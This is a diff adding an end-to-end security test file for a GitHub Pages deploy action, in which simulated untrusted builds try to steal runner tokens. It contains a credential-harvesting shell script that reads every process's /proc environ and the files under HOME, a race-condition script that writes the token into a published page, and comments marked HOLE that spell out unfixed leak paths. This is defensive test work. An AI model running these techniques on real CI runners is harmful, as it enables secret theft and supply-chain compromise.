@@ -1,0 +1,671 @@
+// End to end, an attacker's eye on the Pages "GitHub Actions" source: the site's install and build are untrusted
+// code, as in untrusted.test.ts, and each test attacks the new route for real (the bundle run as the runner runs it,
+// against the API, OIDC and artifact service stand-ins, Azurite behind the last): the runner's tokens read from
+// where a build can look, a published page that holds the token, links and special files in the publish folder, a
+// process left behind that changes the site while it is packed, redirects of the token's services, and a cancel
+// during the pack, the upload and the OIDC request. A test marked `test.failing` shows a hole (see its `HOLE:`).
+import { execFileSync } from 'node:child_process';
+import { existsSync } from 'node:fs';
+import * as fs from 'node:fs/promises';
+import * as http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import * as path from 'node:path';
+import { ArtifactService } from '../support/artifact-service.mjs';
+import { Azurite } from '../support/azurite.mjs';
+import { tokenForms, useEndToEnd } from '../support/e2e.js';
+import { FaultProxy } from '../support/fault-proxy.mjs';
+import { BOT_TOKEN, GitHubApi } from '../support/github-api.mjs';
+import { OidcService, PagesDeployments } from '../support/pages-deployments.mjs';
+import { recorder } from '../support/recorder.js';
+import { filesContaining, runAction, type ActionResult, type Job } from '../support/run-action.mjs';
+
+const e2e = useEndToEnd({ token: BOT_TOKEN });
+let api: GitHubApi;
+let oidc: OidcService;
+let deployments: PagesDeployments;
+let azurite: Azurite;
+let artifacts: ArtifactService;
+
+beforeAll(async () => {
+  api = await GitHubApi.start(e2e.server);
+  oidc = await OidcService.start();
+  deployments = api.use(new PagesDeployments(oidc));
+  azurite = await Azurite.start();
+});
+
+beforeEach(async () => {
+  artifacts = await ArtifactService.start(azurite);
+  deployments.artifactExists = (id) =>
+    [...artifacts.artifacts.values()].some((artifact) => artifact.id === id && artifact.finalized);
+});
+
+afterEach(async () => {
+  await artifacts.stop();
+  api.expectValid();
+});
+
+afterAll(async () => {
+  await api.stop();
+  await oidc.stop();
+  await azurite.stop();
+});
+
+/** What the runner sets for a job that may upload artifacts and ask for an OIDC token. */
+function runnerEnv(): Record<string, string> {
+  return {
+    ...oidc.env,
+    ACTIONS_RUNTIME_TOKEN: artifacts.token(),
+    ACTIONS_RESULTS_URL: artifacts.url,
+    GITHUB_SERVER_URL: 'https://github.com',
+  };
+}
+
+/** A Pages-on-"GitHub Actions" repository, and a static-site job whose `site.conf` holds the token's placeholder. */
+async function attackJob(
+  prefix: string,
+  options: { linkNodeModules?: boolean } = {},
+): Promise<{ repo: string; job: Job }> {
+  const repo = e2e.repoName(prefix);
+  await e2e.server.createRepo(repo);
+  api.setPages(repo, { buildType: 'workflow', htmlUrl: `https://octo.github.io/${repo.split('/')[1]}/` });
+  const job = await e2e.job({ fixture: 'static-site', linkNodeModules: options.linkNodeModules ?? true });
+  await fs.writeFile(path.join(job.workspace, 'site.conf'), 'token: GITHUB_ACCESS_TOKEN\n');
+  return { repo, job };
+}
+
+interface DeployOptions {
+  inputs?: Record<string, string>;
+  env?: Record<string, string>;
+  cancel?: { whenExists: string; signals?: ('SIGINT' | 'SIGTERM' | 'SIGKILL')[] };
+  timeoutMs?: number;
+}
+
+/** Runs the bundle through the Actions source with the token substituted into `site.conf` for the build. */
+function deploy(job: Job, repo: string, build: string, options: DeployOptions = {}): Promise<ActionResult> {
+  oidc.repository = repo;
+  return runAction(job, {
+    serverUrl: e2e.server.url,
+    repository: repo,
+    githubToken: BOT_TOKEN,
+    env: { GITHUB_API_URL: `${api.url}/api/v3`, ...runnerEnv(), ...options.env },
+    inputs: { build, 'pages-source': 'actions', 'config-file': 'site.conf', ...options.inputs },
+    ...(options.cancel ? { cancel: options.cancel } : {}),
+    ...(options.timeoutMs ? { timeoutMs: options.timeoutMs } : {}),
+  });
+}
+
+/** The uploaded `github-pages` artifact's tar, extracted under the job's root: undefined when none was uploaded. */
+async function uploadedSite(job: Job): Promise<string | undefined> {
+  const stored = await artifacts.readArtifact('github-pages');
+  if (!stored) return undefined;
+  const out = path.join(job.root, 'uploaded');
+  await fs.mkdir(out, { recursive: true });
+  await fs.writeFile(path.join(job.root, 'artifact.zip'), stored.content);
+  execFileSync('unzip', ['-o', '-q', path.join(job.root, 'artifact.zip'), '-d', job.root]);
+  execFileSync('tar', ['-xf', path.join(job.root, 'artifact.tar'), '-C', out]);
+  return out;
+}
+
+/** The paths of every file of the uploaded site, sorted (undefined when none was uploaded). */
+async function uploadedPaths(job: Job): Promise<string[] | undefined> {
+  const out = await uploadedSite(job);
+  if (!out) return undefined;
+  const files = (await fs.readdir(out, { recursive: true, withFileTypes: true }))
+    .filter((entry) => !entry.isDirectory())
+    .map((entry) => path.relative(out, path.join(entry.parentPath, entry.name)));
+  return files.sort();
+}
+
+/** Whether the uploaded artifact (the zip as Azurite holds it, and the tar's files) holds any of `secrets`. */
+async function artifactHolds(job: Job, secrets: string[]): Promise<boolean> {
+  const out = await uploadedSite(job);
+  if (!out) return false;
+  return (await filesContaining(out, secrets)).length > 0;
+}
+
+/** The three things a leaked published page must not lead to: an upload, a deployment, a token in the artifact. */
+async function expectRefusedBeforeUpload(job: Job, repo: string, result: ActionResult): Promise<void> {
+  expect(await artifactHolds(job, tokenForms(BOT_TOKEN))).toBe(false);
+  expect(result.exitCode).toBe(1);
+  expect(artifacts.requests.filter((request) => request.method === 'CreateArtifact')).toEqual([]);
+  expect(deployments.deploymentsOf(repo)).toEqual([]);
+}
+
+/** Polls `check` every 20 ms until it holds or `ms` have passed; true when it held. */
+async function until(check: () => boolean | Promise<boolean>, ms: number): Promise<boolean> {
+  for (const end = Date.now() + ms; Date.now() < end;) {
+    if (await check()) return true;
+    await new Promise((resolve) => setTimeout(resolve, 20));
+  }
+  return false;
+}
+
+/** Kills a process a build left in a session of its own (its pid, written by the build): it outlives the step. */
+async function killLeftover(pidFile: string): Promise<void> {
+  const pid = Number((await fs.readFile(pidFile, 'utf8').catch(() => '')).trim());
+  if (Number.isSafeInteger(pid) && pid > 1) {
+    try {
+      process.kill(pid, 'SIGKILL');
+    } catch {
+      // gone already
+    }
+  }
+}
+
+/** The folders of RUNNER_TEMP and their contents, for "nothing left". */
+async function leftIn(dir: string): Promise<string[]> {
+  return (await fs.readdir(dir, { recursive: true })).sort();
+}
+
+describe('the runner tokens are out of reach of the build and of what it leaves behind', () => {
+  test('no runtime, OIDC request or OIDC token in the env, /proc, RUNNER_TEMP or HOME, during the build or the upload and deployment', async () => {
+    const { repo, job } = await attackJob('runner-tokens', { linkNodeModules: false });
+    const loot = path.join(job.root, 'loot');
+    const stop = path.join(job.root, 'stop-looting');
+    const pidFile = path.join(job.root, 'looter.pid');
+    // A looter: copies everything it can read that may hold a token (every process's environ and cmdline, ours
+    // and our parent's among them, and every file under RUNNER_TEMP, TMPDIR and HOME) into the loot folder.
+    const looter = [
+      'n=0',
+      `while [ ! -e "${stop}" ] && [ $n -lt 1200 ]; do`,
+      '  n=$((n+1)); d="$LOOT/$n"; mkdir -p "$d"',
+      '  for p in /proc/[0-9]*; do cat "$p/environ" > "$d/env.${p#/proc/}" 2>/dev/null; cat "$p/cmdline" > "$d/cmd.${p#/proc/}" 2>/dev/null; done',
+      '  find "$RUNNER_TEMP" "$HOME" "${TMPDIR:-/nonexistent}" -type f -size -2M 2>/dev/null | while read -r f; do cat "$f" >> "$d/files" 2>/dev/null; done',
+      '  sleep 0.1',
+      'done',
+    ].join('\n');
+    await fs.writeFile(path.join(job.root, 'looter.sh'), looter);
+    const build = [
+      `mkdir -p "${loot}/build"`,
+      `env > "${loot}/build/env"`,
+      `cat /proc/$PPID/environ > "${loot}/build/parent-environ" 2>/dev/null`,
+      `cat /proc/$PPID/cmdline > "${loot}/build/parent-cmdline" 2>/dev/null`,
+      // Left behind in a session of its own, so that it outlives the build and watches the upload and deployment.
+      `LOOT="${loot}" setsid nohup sh "${job.root}/looter.sh" > /dev/null 2>&1 < /dev/null & echo $! > "${pidFile}"`,
+      // Long enough for setsid to have made its session before the build ends and its group is killed.
+      'sleep 1',
+    ].join('\n');
+    const runtimeToken = artifacts.token();
+    const issuedBefore = new Set(oidc.issued.keys());
+
+    let result: ActionResult;
+    try {
+      result = await deploy(job, repo, build, { env: { ACTIONS_RUNTIME_TOKEN: runtimeToken } });
+      await new Promise((resolve) => setTimeout(resolve, 500));
+    } finally {
+      await fs.writeFile(stop, '');
+      await killLeftover(pidFile);
+    }
+
+    expect(result.errors).toEqual([]);
+    expect(result.exitCode).toBe(0);
+    const oidcTokens = [...oidc.issued.keys()].filter((token) => !issuedBefore.has(token));
+    expect(oidcTokens).toHaveLength(1);
+    // The looter ran, and found none of them, in any round.
+    expect(existsSync(path.join(loot, '1'))).toBe(true);
+    const secrets = [runtimeToken, oidc.requestToken, ...oidcTokens];
+    expect(await filesContaining(loot, secrets)).toEqual([]);
+    // Nor is any of them in a file of the job, nor printed.
+    await fs.rm(loot, { recursive: true, force: true });
+    expect(await filesContaining(job.root, secrets)).toEqual([]);
+    const printed = `${result.stdout}\n${result.stderr}\n${result.post?.stdout ?? ''}`
+      .split('\n')
+      .filter((line) => !line.startsWith('::add-mask::'));
+    expect(printed.filter((line) => secrets.some((secret) => line.includes(secret)))).toEqual([]);
+  });
+});
+
+describe('a published page that holds the token is refused before the upload', () => {
+  test('a page of the publish folder that holds the token (the control: the leak guard refuses it)', async () => {
+    const { repo, job } = await attackJob('leak-page');
+
+    const result = await deploy(job, repo, 'cp site.conf public/leak.html');
+
+    await expectRefusedBeforeUpload(job, repo, result);
+  });
+
+  // HOLE: the leak guard of the Actions route (deploy/actions.ts: filesHolding(everyFile(publishDir))) reads only
+  // the files `scrubbable` keeps, those of 50 MiB or less, while the pack stores every file: a page over 50 MiB
+  // that holds the token is packed, uploaded and deployed. The branch push reads every file it pushes through the
+  // leak check. Fix: check the bytes the pack reads (one read, as the push does), whatever the file's size.
+  test.failing('HOLE: a page over 50 MiB that holds the token is uploaded and deployed', async () => {
+    const { repo, job } = await attackJob('leak-large');
+
+    const result = await deploy(job, repo, '{ cat site.conf; head -c 53000000 /dev/zero; } > public/large.bin');
+
+    await expectRefusedBeforeUpload(job, repo, result);
+  });
+
+  // HOLE: the leak guard's everyFile() lstat()s each entry and skips a symbolic link, while the pack (walk.ts)
+  // stores a link into the workspace as the file it names. A link to a file the workspace scrub leaves alone
+  // (node_modules but its .cache, a file over 50 MiB) publishes that file's token unchecked. Fix: check the
+  // bytes the pack actually reads (the link's target), in the same read.
+  test.failing(
+    'HOLE: a link in the publish folder to a file of node_modules that holds the token is uploaded',
+    async () => {
+      const { repo, job } = await attackJob('leak-link', { linkNodeModules: false });
+      const build = [
+        'mkdir -p node_modules/innocent',
+        'cp site.conf node_modules/innocent/settings.txt',
+        'ln -s ../node_modules/innocent/settings.txt public/settings.txt',
+      ].join(' && ');
+
+      const result = await deploy(job, repo, build);
+
+      await expectRefusedBeforeUpload(job, repo, result);
+    },
+  );
+
+  // Held: the pack refuses a link into a .git folder as the push does (paths.ts's escapes), so the checkout's
+  // .git/config, which the workspace scrub never touches and which holds actions/checkout's extraheader, is not
+  // published.
+  test("a link to the checkout's .git folder (its config holds the job's token) is refused", async () => {
+    const { repo, job } = await attackJob('leak-git-link');
+    await fs.mkdir(path.join(job.workspace, '.git'), { recursive: true });
+    const header = Buffer.from(`x-access-token:${BOT_TOKEN}`).toString('base64');
+    await fs.writeFile(
+      path.join(job.workspace, '.git', 'config'),
+      `[core]\n\tbare = false\n[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${header}\n`,
+    );
+
+    const result = await deploy(job, repo, 'ln -s ../.git public/source');
+
+    await expectRefusedBeforeUpload(job, repo, result);
+    expect(result.errors.join('\n')).toContain(
+      'source in the publish folder is a symbolic link that leads into a .git folder',
+    );
+  });
+});
+
+describe('what the publish folder holds: refused naming it, before any upload', () => {
+  test.each([
+    ['a FIFO', 'mkfifo public/pipe', 'pipe in the publish folder is not a file, folder or link'],
+    [
+      'a socket',
+      `python3 -c "import socket; socket.socket(socket.AF_UNIX).bind('public/sock')"`,
+      'sock in the publish folder is not a file, folder or link',
+    ],
+    ['a link to a device', 'ln -s /dev/zero public/zero', 'zero in the publish folder is a symbolic link that leads'],
+    [
+      'a link to /proc',
+      'ln -s /proc/self/environ public/env.txt',
+      'env.txt in the publish folder is a symbolic link that leads',
+    ],
+    ['a link to HOME', 'ln -s "$HOME" public/home', 'home in the publish folder is a symbolic link that leads'],
+    [
+      'a link to a FIFO inside the workspace',
+      'mkfifo pipe && ln -s ../pipe public/pipe',
+      'pipe in the publish folder links to something that is not a file or folder',
+    ],
+    [
+      'a link that loops',
+      'ln -s . public/loop',
+      'loop in the publish folder is a symbolic link to a folder that holds it',
+    ],
+  ])('%s', async (_what, build, message) => {
+    const { repo, job } = await attackJob('special');
+
+    const result = await deploy(job, repo, build);
+
+    expect(result.exitCode).toBe(1);
+    expect(result.errors.join('\n')).toContain(message);
+    expect(artifacts.requests).toEqual([]);
+    expect(deployments.deploymentsOf(repo)).toEqual([]);
+    expect(await leftIn(job.runnerTemp)).toEqual([]);
+  });
+
+  test('a sparse file of 11 GiB is refused by its size before anything is written or uploaded', async () => {
+    const { repo, job } = await attackJob('sparse');
+
+    const result = await deploy(job, repo, 'truncate -s 11G public/huge.bin');
+
+    expect(result.exitCode).toBe(1);
+    expect(result.errors.join('\n')).toContain('over the 10 GiB GitHub Pages deploys at most');
+    expect(artifacts.requests).toEqual([]);
+    expect(await leftIn(job.runnerTemp)).toEqual([]);
+  });
+
+  test('.git and .github at any depth are left out; dotfiles, odd names and hard links to outside are packed as files', async () => {
+    const { repo, job } = await attackJob('names');
+    const outside = path.join(job.home, 'outside.txt');
+    await fs.writeFile(outside, 'not a secret, readable by the build anyway\n');
+    const build = [
+      'mkdir -p public/a/.git public/b/c/.github public/.well-known',
+      'echo x > public/a/.git/config && echo x > public/b/c/.github/workflow.yml && echo y > public/.well-known/security.txt',
+      'echo z > public/.git && echo n > "public/new',
+      'line.html" && echo d > public/..dots && echo q > "public/-rf" && echo s > "public/ space.html"',
+      `ln "${outside}" public/hard.txt 2>/dev/null || cp "${outside}" public/hard.txt`,
+    ].join('\n');
+
+    const result = await deploy(job, repo, build);
+
+    expect(result.errors).toEqual([]);
+    expect(result.exitCode).toBe(0);
+    expect(await uploadedPaths(job)).toEqual(
+      [
+        ' space.html',
+        '-rf',
+        '..dots',
+        '.well-known/security.txt',
+        'assets/run.sh',
+        'assets/style.css',
+        'hard.txt',
+        'index.html',
+        'new\nline.html',
+      ].sort(),
+    );
+  });
+});
+
+describe('a process the build left behind, while the site is packed', () => {
+  // HOLE: the leak check and the pack read the publish folder twice (actions.ts: filesHolding, then packSite), and
+  // the pack checks only that each file's size did not change. A process the build left in a session of its own
+  // (documented as able to outlive the build) that read the token from the substituted config waits for the pack
+  // to start (its folder pages-artifact-* appears under RUNNER_TEMP) and writes the token into a page of the same
+  // size: the leak guard checked other bytes than those uploaded. Fix: scan the bytes the pack reads (one read, as
+  // the branch push does), or scan the finished tar before the upload.
+  test.failing('HOLE: a page rewritten with the token after the leak check, during the pack, is uploaded', async () => {
+    const { repo, job } = await attackJob('toctou', { linkNodeModules: false });
+    const pidFile = path.join(job.root, 'swapper.pid');
+    const swapper = `
+      const fs = require('node:fs'), path = require('node:path');
+      const token = fs.readFileSync('site.conf', 'utf8');
+      const page = path.resolve('public/zz-last.html');
+      const size = fs.statSync(page).size;
+      const dirty = Buffer.alloc(size, ' '); Buffer.from(token).copy(dirty);
+      const temp = process.env.RUNNER_TEMP, end = Date.now() + 60000;
+      const packing = () => { try { return fs.readdirSync(temp, { recursive: true }).some((n) => n.includes('pages-artifact-')); } catch { return false; } };
+      const tick = () => { if (packing()) { fs.writeFileSync(page + '.swap', dirty); fs.renameSync(page + '.swap', page); fs.writeFileSync(page + '.done', ''); return; } if (Date.now() < end) setImmediate(tick); };
+      tick();`;
+    await fs.writeFile(path.join(job.root, 'swapper.cjs'), swapper);
+    // A large file first in the tar gives the pack time; the page the swapper rewrites is packed last, after more
+    // pages than the pack reads ahead of its writing (32).
+    const build = [
+      'truncate -s 400M public/aa-large.bin',
+      'for i in $(seq 10 60); do echo "page $i" > public/ab-$i.html; done',
+      'head -c 300 /dev/zero | tr "\\0" "x" > public/zz-last.html',
+      `setsid nohup "${process.execPath}" "${job.root}/swapper.cjs" > /dev/null 2>&1 < /dev/null & echo $! > "${pidFile}"`,
+      'sleep 1',
+    ].join('\n');
+
+    let result: ActionResult;
+    try {
+      result = await deploy(job, repo, build);
+    } finally {
+      await killLeftover(pidFile);
+    }
+
+    // The swapper did write its page during the pack (else the race was lost, not the attack refused).
+    expect(existsSync(path.join(job.workspace, 'public', 'zz-last.html.done'))).toBe(true);
+    expect(await artifactHolds(job, tokenForms(BOT_TOKEN))).toBe(false);
+    expect(deployments.deploymentsOf(repo).filter((made) => made.status === 'succeed')).toEqual([]);
+    expect(result.exitCode).toBe(1);
+  });
+});
+
+/** A server of our own (an OIDC token service, a results service's front), on loopback. */
+async function serve(handler: http.RequestListener): Promise<{ url: string; stop: () => Promise<void> }> {
+  const server = http.createServer(handler);
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const { port } = server.address() as AddressInfo;
+  return {
+    url: `http://127.0.0.1:${port}`,
+    stop: () =>
+      new Promise<void>((resolve) => {
+        server.closeAllConnections();
+        server.close(() => {
+          resolve();
+        });
+      }),
+  };
+}
+
+describe('where the tokens go', () => {
+  test('a redirect of the OIDC token service to another host is refused: the request token does not follow', async () => {
+    const { repo, job } = await attackJob('oidc-redirect');
+    const trap = await recorder();
+    const redirecting = await serve((request, response) => {
+      response.writeHead(307, { location: `${trap.url}/token?api-version=2.0` }).end();
+    });
+    try {
+      const result = await deploy(job, repo, 'true', {
+        env: { ACTIONS_ID_TOKEN_REQUEST_URL: `${redirecting.url}/token?api-version=2.0` },
+      });
+
+      expect(result.exitCode).toBe(1);
+      expect(result.errors.join('\n')).toContain('refused a redirect to');
+      expect(trap.requests).toEqual([]);
+      expect(deployments.deploymentsOf(repo)).toEqual([]);
+      expect(await leftIn(job.runnerTemp)).toEqual([]);
+    } finally {
+      await redirecting.stop();
+      await trap.stop();
+    }
+  });
+
+  // HOLE: @actions/artifact's Twirp client (artifact-twirp-client.js) makes its HttpClient with a
+  // BearerCredentialHandler, and @actions/http-client strips `authorization` on a redirect to another host name,
+  // then calls every handler's prepareRequest for the redirected request, which puts `Bearer <ACTIONS_RUNTIME_TOKEN>`
+  // back: an answer 3xx of ACTIONS_RESULTS_URL (or of anything on its path over http) sends the runtime token to
+  // whichever host it names, five times with the retries. Fix (upload.ts already watches the upload's sockets by its
+  // AsyncLocalStorage context): refuse, by diagnostics_channel's `http.client.request.start`, any request of the
+  // upload that carries an authorization header to an origin other than ACTIONS_RESULTS_URL's; or hand the toolkit
+  // an HttpClient with `allowRedirects: false`; and report it upstream (actions/toolkit).
+  test.failing('HOLE: a redirect of the results service to another host takes the runtime token with it', async () => {
+    const { repo, job } = await attackJob('results-redirect');
+    const trap = await recorder();
+    // "localhost" is another host name than the service's 127.0.0.1 (the toolkit drops the authorization on a
+    // redirect to another host name).
+    const trapUrl = trap.url.replace('127.0.0.1', 'localhost');
+    const redirecting = await serve((request, response) => {
+      response.writeHead(307, { location: `${trapUrl}${request.url ?? '/'}` }).end();
+    });
+    const runtimeToken = artifacts.token();
+    try {
+      const result = await deploy(job, repo, 'true', {
+        env: { ACTIONS_RESULTS_URL: `${redirecting.url}/`, ACTIONS_RUNTIME_TOKEN: runtimeToken },
+      });
+
+      expect(result.exitCode).toBe(1);
+      // The redirect was followed (the trap was asked), without the token.
+      expect(trap.requests.length).toBeGreaterThan(0);
+      expect(trap.requests.filter((request) => request.authorization !== '')).toEqual([]);
+      expect(deployments.deploymentsOf(repo)).toEqual([]);
+      expect(await leftIn(job.runnerTemp)).toEqual([]);
+    } finally {
+      await redirecting.stop();
+      await trap.stop();
+    }
+  });
+});
+
+describe('a cancel at each stage leaves nothing behind', () => {
+  test('during the pack: nothing uploaded, no deployment, no tar left', async () => {
+    const { repo, job } = await attackJob('cancel-pack');
+    const cancelNow = path.join(job.root, 'cancel-now');
+    const watch = until(async () => {
+      const names = await fs.readdir(job.runnerTemp, { recursive: true }).catch(() => []);
+      if (!names.some((name) => name.includes('pages-artifact-'))) return false;
+      await fs.writeFile(cancelNow, '');
+      return true;
+    }, 60000);
+
+    const result = await deploy(job, repo, 'truncate -s 1500M public/large.bin', {
+      cancel: { whenExists: cancelNow },
+    });
+
+    expect(await watch).toBe(true);
+    expect(result.exitCode).not.toBe(0);
+    expect(result.errors.join('\n')).toContain('SIGINT');
+    expect(artifacts.requests.filter((request) => request.method === 'FinalizeArtifact')).toEqual([]);
+    expect(deployments.deploymentsOf(repo)).toEqual([]);
+    expect(await leftIn(job.runnerTemp)).toEqual([]);
+    expect(result.post?.exitCode).toBe(0);
+  });
+
+  test('during the upload (the blob store stalls): not finalized, no deployment, no tar left', async () => {
+    const { repo, job } = await attackJob('cancel-upload');
+    await artifacts.stop();
+    const stall = await FaultProxy.start(azurite.port, [
+      { match: (request) => request.method === 'PUT', action: 'stall' },
+    ]);
+    artifacts = await ArtifactService.start(azurite, { uploadBase: stall.url });
+    const cancelNow = path.join(job.root, 'cancel-now');
+    const watch = until(async () => {
+      if (!artifacts.requests.some((request) => request.method === 'CreateArtifact')) return false;
+      await new Promise((resolve) => setTimeout(resolve, 500));
+      await fs.writeFile(cancelNow, '');
+      return true;
+    }, 60000);
+    try {
+      const result = await deploy(job, repo, 'true', { cancel: { whenExists: cancelNow } });
+
+      expect(await watch).toBe(true);
+      expect(result.exitCode).not.toBe(0);
+      expect(result.errors.join('\n')).toContain('SIGINT');
+      expect([...artifacts.artifacts.values()].filter((artifact) => artifact.finalized)).toEqual([]);
+      expect(deployments.deploymentsOf(repo)).toEqual([]);
+      expect(await leftIn(job.runnerTemp)).toEqual([]);
+      expect(result.post?.exitCode).toBe(0);
+    } finally {
+      await stall.stop();
+    }
+  });
+
+  test('during the OIDC request (the service holds it): no deployment, nothing left, quickly', async () => {
+    const { repo, job } = await attackJob('cancel-oidc');
+    const cancelNow = path.join(job.root, 'cancel-now');
+    const holding = await serve(() => {
+      void fs.writeFile(cancelNow, '');
+      // never answered
+    });
+    try {
+      const started = Date.now();
+      const result = await deploy(job, repo, 'true', {
+        env: { ACTIONS_ID_TOKEN_REQUEST_URL: `${holding.url}/token?api-version=2.0` },
+        cancel: { whenExists: cancelNow },
+      });
+
+      expect(result.exitCode).not.toBe(0);
+      expect(result.signals).toEqual(['SIGINT']);
+      expect(result.errors.join('\n')).toContain('SIGINT');
+      expect(Date.now() - started).toBeLessThan(60000);
+      expect(deployments.deploymentsOf(repo)).toEqual([]);
+      expect(await leftIn(job.runnerTemp)).toEqual([]);
+      expect(result.post?.exitCode).toBe(0);
+    } finally {
+      await holding.stop();
+    }
+  });
+
+  test('killed (SIGKILL) during the upload: the post step leaves no tar in RUNNER_TEMP', async () => {
+    const { repo, job } = await attackJob('kill-upload');
+    await artifacts.stop();
+    const stall = await FaultProxy.start(azurite.port, [
+      { match: (request) => request.method === 'PUT', action: 'stall' },
+    ]);
+    artifacts = await ArtifactService.start(azurite, { uploadBase: stall.url });
+    const cancelNow = path.join(job.root, 'cancel-now');
+    const watch = until(async () => {
+      if (!artifacts.requests.some((request) => request.method === 'CreateArtifact')) return false;
+      await new Promise((resolve) => setTimeout(resolve, 500));
+      await fs.writeFile(cancelNow, '');
+      return true;
+    }, 60000);
+    try {
+      const result = await deploy(job, repo, 'true', { cancel: { whenExists: cancelNow, signals: ['SIGKILL'] } });
+
+      expect(await watch).toBe(true);
+      expect(result.signals).toEqual(['SIGKILL']);
+      expect(deployments.deploymentsOf(repo)).toEqual([]);
+      expect(result.post?.exitCode).toBe(0);
+      expect(await leftIn(job.runnerTemp)).toEqual([]);
+    } finally {
+      await stall.stop();
+    }
+  });
+});
+
+/** A front of the API stand-in that passes every call on, but answers the deployment's creation with `answer`. */
+async function apiFront(
+  answer: (response: http.ServerResponse) => void,
+): Promise<{ url: string; stop: () => Promise<void> }> {
+  const upstream = new URL(api.url);
+  return serve((request, response) => {
+    if (request.method === 'POST' && (request.url ?? '').endsWith('/pages/deployments')) {
+      request.resume();
+      answer(response);
+      return;
+    }
+    const forward = http.request(
+      {
+        host: upstream.hostname,
+        port: upstream.port,
+        path: request.url,
+        method: request.method,
+        headers: request.headers,
+      },
+      (answered) => {
+        response.writeHead(answered.statusCode ?? 502, answered.headers);
+        answered.pipe(response);
+      },
+    );
+    forward.on('error', () => response.destroy());
+    request.pipe(forward);
+  });
+}
+
+describe('the OIDC token goes to the API only', () => {
+  test('a redirect of the deployment call to another host is refused: the OIDC token and the token do not follow', async () => {
+    const { repo, job } = await attackJob('api-redirect');
+    const trap = await recorder();
+    const front = await apiFront((response) => {
+      response.writeHead(307, { location: `${trap.url}/repos/${repo}/pages/deployments` }).end();
+    });
+    const issuedBefore = new Set(oidc.issued.keys());
+    try {
+      const result = await deploy(job, repo, 'true', { env: { GITHUB_API_URL: `${front.url}/api/v3` } });
+
+      expect(result.exitCode).toBe(1);
+      expect(result.errors.join('\n')).toContain('refused to send the token to');
+      expect(trap.requests).toEqual([]);
+      const oidcTokens = [...oidc.issued.keys()].filter((token) => !issuedBefore.has(token));
+      expect(oidcTokens).toHaveLength(1);
+      expect(result.log).not.toContain(oidcTokens[0] ?? 'no token');
+      expect(await leftIn(job.runnerTemp)).toEqual([]);
+    } finally {
+      await front.stop();
+      await trap.stop();
+    }
+  });
+});
+
+describe('a main step killed mid-deployment', () => {
+  // HOLE: the deployment's id is kept in memory only (deploy/actions.ts); nothing is saved to the step's state, so a
+  // main step killed while it follows the deployment (SIGKILL: the runner's cancel once 10 s have passed, the job's
+  // timeout-minutes, the OOM killer) leaves it in progress: the post step, which cleans up after a killed main step,
+  // does not cancel it, and the next run's deployment is refused ("in progress deployment") until GitHub ends it.
+  // Fix: save the deployment's id (state) as soon as it is made, and let the post step cancel one still in progress.
+  test.failing(
+    'HOLE: killed (SIGKILL) while the deployment is followed, the post step leaves it in progress',
+    async () => {
+      const { repo, job } = await attackJob('kill-deployment');
+      deployments.script(repo, ['deployment_in_progress']);
+      const cancelNow = path.join(job.root, 'cancel-now');
+      const watch = until(async () => {
+        const [made] = deployments.deploymentsOf(repo);
+        if (!made || made.statuses.length < 2) return false;
+        await fs.writeFile(cancelNow, '');
+        return true;
+      }, 60000);
+
+      const result = await deploy(job, repo, 'true', { cancel: { whenExists: cancelNow, signals: ['SIGKILL'] } });
+
+      expect(await watch).toBe(true);
+      expect(result.signals).toEqual(['SIGKILL']);
+      expect(result.post?.exitCode).toBe(0);
+      expect(await leftIn(job.runnerTemp)).toEqual([]);
+      expect(deployments.deploymentsOf(repo).map((made) => made.status)).toEqual(['deployment_cancelled']);
+    },
+  );
+});
